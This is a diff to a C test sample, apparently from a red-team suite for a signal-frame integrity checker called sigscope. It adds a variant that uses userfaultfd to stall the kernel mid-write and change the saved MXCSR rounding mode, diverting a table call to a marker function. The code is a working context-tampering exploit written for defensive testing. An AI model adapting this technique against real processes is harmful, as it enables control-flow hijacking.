@@ -13,12 +13,20 @@
  * microseconds when the frame's writing can be made to sleep: it is as long as the attacker
  * likes, and deterministic.
  *
+ * srop_fp_uffd_mxcsr (red team round 24, idea 5) is this program built with STALL_MXCSR: the
+ * write while the kernel sleeps moves MXCSR's rounding to round-up instead, and 2.4 converts to
+ * the table index 3, the attacker's entry.
+ *
  * Expected from sigscope: tampered_context (high, changed fpstate): the thread slept on the
- * way, the kernel's own copy of its xmm registers (saved when it left the CPU) disagrees with
- * the area, so no baseline is kept and the sigreturn fails closed. Root: userfaultfd on kernel
- * faults (exit 77 where it is refused).
+ * way, the kernel's own copy of its registers and control words (saved when it left the CPU)
+ * disagrees with the area, so no baseline is kept and the sigreturn fails closed. Root:
+ * userfaultfd on kernel faults (exit 77 where it is refused).
  */
 #include "mal.h"
+
+#ifndef STALL_MXCSR
+#define STALL_NAME "srop_fp_uffd_stall"
+#endif
 
 #include <cpuid.h>
 #include <linux/userfaultfd.h>
@@ -36,6 +44,8 @@ static __attribute__((noinline)) void benign(void)
 {
 	__asm__ volatile("");
 }
+
+static void (*const table[4])(void) = {benign, benign, benign, (void (*)(void))mal_pwned};
 
 static void handler(int sig, siginfo_t *info, void *ucv)
 {
@@ -56,7 +66,12 @@ static void *fault_thread(void *arg)
 	(void)arg;
 	if (poll(&p, 1, 5000) != 1 || read((int)uffd, &msg, sizeof(msg)) != sizeof(msg))
 		mal_die(MAL_EXIT_SETUP, "userfaultfd read");
+#ifdef STALL_MXCSR
+	*(volatile uint32_t *)(area + 24) =
+	    (*(volatile uint32_t *)(area + 24) & ~0x6000u) | 0x4000u;
+#else
 	*(volatile uint64_t *)(area + 160) = (uint64_t)(uintptr_t)mal_pwned; /* xmm0 */
+#endif
 	copy.dst = (uintptr_t)lower;
 	if (ioctl((int)uffd, UFFDIO_COPY, &copy))
 		mal_die(MAL_EXIT_SETUP, "UFFDIO_COPY");
@@ -83,8 +98,9 @@ int main(void)
 	stack_t ss;
 	uintptr_t top;
 	char *base;
+	long idx;
 
-	mal_init("srop_fp_uffd_stall", 10);
+	mal_init(STALL_NAME, 10);
 	__cpuid_count(0xd, 0, a, b, c, d);
 	xs = b + 4; /* the kernel's xstate sigframe size: the area and FP_XSTATE_MAGIC2 */
 	(void)a;
@@ -127,8 +143,11 @@ int main(void)
 			 : [fn] "r"((uint64_t)(uintptr_t)benign), [flag] "m"(delivered)
 			 : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "xmm0",
 			   "memory");
+	/* 2.4 to an index: 2 under the saved rounding (to nearest), 3 rounded up. */
+	__asm__ volatile("cvtsd2si %1, %0" : "=r"(idx) : "x"(2.4));
+	table[idx & 3]();
 	pthread_join(t1, NULL);
 	pthread_join(t2, NULL);
-	mal_say("the call through xmm0 went where it was meant to");
+	mal_say("the calls through xmm0 and the table went where they were meant to");
 	return MAL_EXIT_NOTHING;
 }
